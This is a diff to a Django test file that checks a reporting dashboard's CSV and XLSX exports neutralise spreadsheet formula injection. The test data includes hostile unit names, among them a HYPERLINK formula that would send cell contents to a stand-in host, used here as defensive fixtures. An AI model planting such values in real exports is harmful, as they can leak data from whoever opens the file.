@@ -7,7 +7,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from lantoa.audit.models import AuditAction, AuditEntry
-from lantoa.core.exports import neutralise
+from lantoa.core.cells import neutralise
 from lantoa.organization.models import Unit
 from lantoa.reporting.dashboard.selectors import dashboard_get
 from lantoa.reporting.models import UnitWeekChannelCount
@@ -162,10 +162,36 @@ def test_it_exports_xlsx_with_numeric_cells(reported, board_user):
     assert values["03127"] == 2 and isinstance(values["03127"], int)
 
 
-@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx"])
+@pytest.mark.parametrize(
+    "value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "\n=cmd", " =1", " \t@x"]
+)
 def test_it_neutralises_formula_like_text(value):
     assert neutralise(value).startswith("'")
     assert neutralise(12) == 12
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://x/"&B2,"x")', "\t=1+1", "\n=cmd", " =1", "+1", "@SUM(A1)"]
+
+
+def test_it_exports_hostile_unit_names_as_inert_text_in_both_formats(reported, board_user):
+    codes = ["03127", "03160"]
+    units = Unit.objects.filter(assignments__task__campaign=reported).exclude(code__in=codes)
+    targets = [*codes, *units.distinct().order_by("code").values_list("code", flat=True)]
+    for code, name in zip(targets, HOSTILE_NAMES, strict=False):
+        Unit.objects.filter(code=code).update(name=name)
+    client = client_for(board_user)
+    body = client.get(reverse("reporting:dashboard_export", args=[reported.pk, "csv"])).content
+    fields = [f for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for f in row]
+    assert {"'" + name for name in HOSTILE_NAMES} <= set(fields)
+    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    assert not [f for f in fields if f.lstrip().startswith(("=", "+", "-", "@"))]
+    data = client.get(reverse("reporting:dashboard_export", args=[reported.pk, "xlsx"])).content
+    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
+    # In .xlsx the name is kept exactly, as a text cell that Excel keeps as text when edited.
+    names = {c.value: c for c in cells if c.value in HOSTILE_NAMES}
+    assert set(names) == set(HOSTILE_NAMES)
+    assert all(c.data_type == "s" and c.quotePrefix for c in names.values())
 
 
 def test_it_counts_a_task_done_once_however_many_activities_name_it(kl51_campaign):
